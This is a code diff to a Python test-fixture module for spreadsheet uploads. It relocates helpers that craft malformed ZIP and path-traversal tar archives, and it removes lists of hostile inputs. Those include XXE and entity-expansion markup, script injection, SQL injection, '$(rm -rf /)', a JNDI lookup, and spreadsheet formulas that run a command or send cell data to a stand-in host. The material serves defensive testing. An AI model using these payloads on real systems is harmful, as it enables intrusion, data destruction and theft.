@@ -9,8 +9,6 @@ import gzip
 import io
 import lzma
 import stat
-import struct
-import tarfile
 import warnings
 import zipfile
 from collections.abc import Callable, Sequence
@@ -18,6 +16,8 @@ from dataclasses import dataclass, replace
 from functools import cache
 
 import openpyxl
+
+from tests.transfer.archives import archive, encrypted, lying, packed, tar, wrong_sum
 
 ENTITY = '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'
 LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
@@ -144,52 +144,6 @@ def grown(book: bytes, name: str) -> bytes:
     return rewritten(book, {name: member(book, name) + b" " * BOMB_BYTES})
 
 
-def archive(members: dict[str, bytes]) -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
-        for name, content in members.items():
-            file.writestr(name, content)
-    return out.getvalue()
-
-
-def lying(content: bytes) -> bytes:
-    """The archive with every size in its directory said to be one byte."""
-    data, at = bytearray(content), 0
-    while (at := data.find(b"PK\x01\x02", at)) >= 0:
-        data[at + 24 : at + 28] = struct.pack("<I", 1)
-        at += 4
-    return bytes(data)
-
-
-def encrypted(content: bytes) -> bytes:
-    """The archive with every member said to be behind a password."""
-    data = bytearray(content)
-    for magic, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
-        at = 0
-        while (at := data.find(magic, at)) >= 0:
-            data[at + flags] |= 1
-            at += 4
-    return bytes(data)
-
-
-def wrong_sum(content: bytes) -> bytes:
-    """The archive with every check sum in its directory one off."""
-    data, at = bytearray(content), 0
-    while (at := data.find(b"PK\x01\x02", at)) >= 0:
-        data[at + 16] ^= 1
-        at += 4
-    return bytes(data)
-
-
-def packed(book: bytes, method: int) -> bytes:
-    """The workbook packed in another way."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(out, "w", method) as new:
-        for name in old.namelist():
-            new.writestr(name, old.read(name))
-    return out.getvalue()
-
-
 def twice(book: bytes, name: str) -> bytes:
     """A workbook that has a member two times: which one is read is anybody's guess."""
     out = io.BytesIO(book)
@@ -246,15 +200,6 @@ def moved(good: Good, name: str, before: str = LAUGHS) -> bytes:
     told = member(book, RELATIONS).replace(b"worksheets/sheet1.xml", name.encode())
     changed = {SHEET: None, RELATIONS: told}
     return rewritten(book, changed, extra={f"xl/{name}": markup(good, before=before).encode()})
-
-
-def tar(content: bytes) -> bytes:
-    out = io.BytesIO()
-    with tarfile.open(fileobj=out, mode="w") as file:
-        packed_up = tarfile.TarInfo("../../etc/passwd")
-        packed_up.size = len(content)
-        file.addfile(packed_up, io.BytesIO(content))
-    return out.getvalue()
 
 
 def text(body) -> bytes:
@@ -517,117 +462,3 @@ def benign(good: Good) -> dict[tuple[str, str], bytes]:
         ("xlsx", "shared text"): sharing(cell(good, "s", "0", column=good.text)),
         ("xlsx", "text that was calculated"): cell(good, "str", "a", column=good.text),
     }
-
-
-NAMES = [
-    "a.ods",
-    "a.xlsm",
-    "a.xls",
-    "a.csv.exe",
-    "a",
-    "",
-    ".",
-    "../../a",
-    "a.csv\x00.pdf",
-    "a.CSV.zip",
-    "a.csv ",
-    "a.csv/",
-    "a.xlsx\n.html",
-    "a.csv;.exe",
-    "a.\u202evsc",
-    "a.\uff43\uff53\uff56",
-    "CON",
-    "a.xlsb",
-    "a.tsv",
-    "x" * 5_000,
-]
-
-# what no cell of any table may hold, whatever the column; texts that are too long among them
-NEVER = {
-    "NUL": "a\x00b",
-    "escape": "a\x1bb",
-    "bell": "\x07a",
-    "delete": "a\x7fb",
-    "not a letter": "a\uffffb",
-    "40,000 letters": "x" * 40_000,
-    "40,000 digits": "9" * 40_000,
-    "40,000 accents": "e" + "\u0301" * 40_000,
-    "10,000 emoji": "\U0001f600" * 10_000,
-}
-# personal numbers as people write them; columns of references alone may hold such digits
-PERSONAL = {
-    "CPR": "010190-1234",
-    "CPR together": "0101901234",
-    "CPR with a blank": "010190 1234",
-    "CPR with dots": "01.01.90.1234",
-    "CPR with slashes": "01/01/90-1234",
-    "CPR with the century": "01011990-1234",
-    "CPR with a dash": "010190\u20131234",
-    "CPR with a minus": "010190\u22121234",
-    "CPR with a hidden mark": "010190\u200b-1234",
-    "CPR with a hard blank": "010190\u00a01234",
-    "CPR with a soft hyphen": "010190\u00ad1234",
-    "CPR in wide digits": "\uff10\uff11\uff10\uff11\uff19\uff10-\uff11\uff12\uff13\uff14",
-    "CPR in Arabic digits": "\u0660\u0661\u0660\u0661\u0669\u0660-\u0661\u0662\u0663\u0664",
-    "CPR in words": "Ring til 010190 1234 i morgen",
-    "CPR behind another number": "nr. 5 010190-1234",
-    "CPR of 29 February": "290200-0000",
-}
-# what a column of days, amounts or numbers refuses, and a column of text keeps as what it is: text
-TEXTS = {
-    "year 0": "0000-01-01",
-    "year 1": "1.1.0001",
-    "year 1899": "31.12.1899",
-    "year 2101": "1.1.2101",
-    "year 9999": "31.12.9999",
-    "year 10000": "1.1.10000",
-    "no such day": "31.2.2018",
-    "no leap year": "29.2.2019",
-    "month 13": "1.13.2018",
-    "day 0": "0.1.2018",
-    "day below nought": "-1.1.2018",
-    "day as in America": "12/31/2018",
-    "day with an hour": "2018-05-14T12:00",
-    "half a day": "14.5",
-    "not a number": "NaN",
-    "no end": "Infinity",
-    "no end below nought": "-inf",
-    "exponent": "1e9",
-    "small exponent": "1e-9",
-    "hexadecimal": "0x1F",
-    "binary": "0b11",
-    "digits in groups": "1_000",
-    "two commas": "1,2,3",
-    "comma alone": ",",
-    "three decimals": "1,2345",
-    "fraction": "\u00bd",
-    "raised digit": "\u00b2",
-    "hour 25": "25.00",
-    "minute 60": "12.60",
-    "tag": "<script>alert(1)</script>",
-    "event": '" onmouseover="alert(1)',
-    "address of a script": "javascript:alert(1)",
-    "template": "{{ request.user }}",
-    "tag of a template": "{% debug %}",
-    "percent": "%s%(x)s%n",
-    "braces": "{0.__class__}",
-    "path": "../../etc/passwd",
-    "path of Windows": "..\\..\\a",
-    "database": "'; DROP TABLE citizens_citizen; --",
-    "shell": "$(rm -rf /)",
-    "look-up": "${jndi:ldap://example.test/a}",
-    "right to left": "\u202eeslaf",
-    "zero width": "a\u200bb",
-}
-# what a spreadsheet would run if it came back as it stands
-FORMULAS = {
-    "formula": "=1+1",
-    "program": "=cmd|' /C calc'!A0",
-    "call": '=HYPERLINK("http://example.test?"&A1)',
-    "plus": "+1+1",
-    "minus": "-1+1",
-    "at": "@SUM(1)",
-    "wide formula": "\uff1d1+1",
-    "formula behind an apostrophe": "'=1+1",
-}
-CELLS = NEVER | PERSONAL | TEXTS | FORMULAS
